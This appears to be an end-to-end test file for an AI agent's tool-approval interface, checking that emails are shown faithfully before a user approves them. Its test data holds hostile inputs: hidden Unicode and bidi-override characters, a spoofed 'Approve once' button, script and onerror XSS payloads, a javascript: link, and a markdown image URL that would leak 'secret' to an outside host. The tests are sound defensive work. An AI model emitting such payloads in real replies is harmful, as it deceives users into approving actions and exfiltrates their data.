import { sentMails } from './database.ts'
import { sendEmail } from './replies.ts'
import { expect, test } from './story.ts'

test('promise 2: hidden characters are spelled out in the dialog, and sent as they were approved', async ({
  page,
  workbench,
  server,
}) => {
  const tags = Array.from('evil', (letter) => String.fromCodePoint(0xe0000 + letter.charCodeAt(0)))
  const message = `Pay\u200b 10 \u202e01\u202c euro${tags.join('')}\r\n\tThanks`
  server.script({ calls: [sendEmail('bob@example.com', message)] }, { text: 'Paid.' })
  await workbench.connect(server)
  await workbench.say('pay bob')
  for (const shown of ['U+200B', 'U+202E', 'U+202C', 'hidden text “evil”', 'hidden characters']) {
    await expect(workbench.approval).toContainText(shown)
  }
  await workbench.approve()
  await expect(workbench.conversation).toContainText('Paid.')
  expect(await sentMails(page)).toEqual([{ to: 'bob@example.com', body: message }])
})

test('promise 2: a call longer than the screen can’t be approved before its end was seen', async ({
  page,
  workbench,
  server,
}) => {
  const message = [...Array(300).keys()].map((line) => `line ${line}`).join('\n')
  server.script({ calls: [sendEmail('bob@example.com', message)] }, { text: 'Sent.' })
  await page.clock.install()
  await workbench.connect(server)
  await workbench.say('write a long mail')
  await workbench.isAsked('1 of 1', 'send_email')
  const approve = workbench.button('Approve once')
  await expect(workbench.approval).toContainText('Scroll to the end to approve')
  await page.clock.fastForward(60_000)
  await expect(approve).toHaveAttribute('aria-disabled', 'true')
  await page.keyboard.press('Control+Enter')
  await expect(workbench.call('send_email')).toContainText('Waiting for you')

  await page.keyboard.press('End')
  await expect(workbench.approval.getByText('line 299').last()).toBeInViewport()
  await workbench.approve()
  await expect(workbench.conversation).toContainText('Sent.')
  expect(await sentMails(page)).toEqual([{ to: 'bob@example.com', body: message }])
})

test('promise 5: markup in a reply and in arguments stays text, loads nothing and runs nothing', async ({
  page,
  workbench,
  server,
}) => {
  const markup = '<img src=x onerror="document.title=1"><script>document.title=1</script>'
  const text = [
    markup,
    '![pixel](https://example.invalid/leak.png?q=secret)',
    '![ref][leak]',
    '[click](javascript:document.title=1)',
    '[leak]: https://example.invalid/leak.png',
    '<iframe src="https://example.invalid/"></iframe>',
    '<button>Approve once</button>',
  ].join('\n\n')
  server.script({ text, calls: [sendEmail('bob@example.com', markup)] }, { text: `Done. ${text}` })
  await workbench.connect(server)
  await workbench.say(markup)
  await workbench.isAsked('1 of 1', 'send_email')
  await expect(workbench.approval).toContainText(markup)
  await expect(page.getByRole('button', { name: 'Approve once' })).toHaveCount(1)
  await workbench.approve()
  await expect(workbench.conversation).toContainText('Done.')
  await expect(workbench.conversation.locator('img, iframe, script')).toHaveCount(0)
  await expect(workbench.conversation.getByRole('button', { name: 'Approve once' })).toHaveCount(0)
  await expect(workbench.conversation.locator('a[href^="javascript:" i]')).toHaveCount(0)
  await expect(page).toHaveTitle(/Countersign/)
})
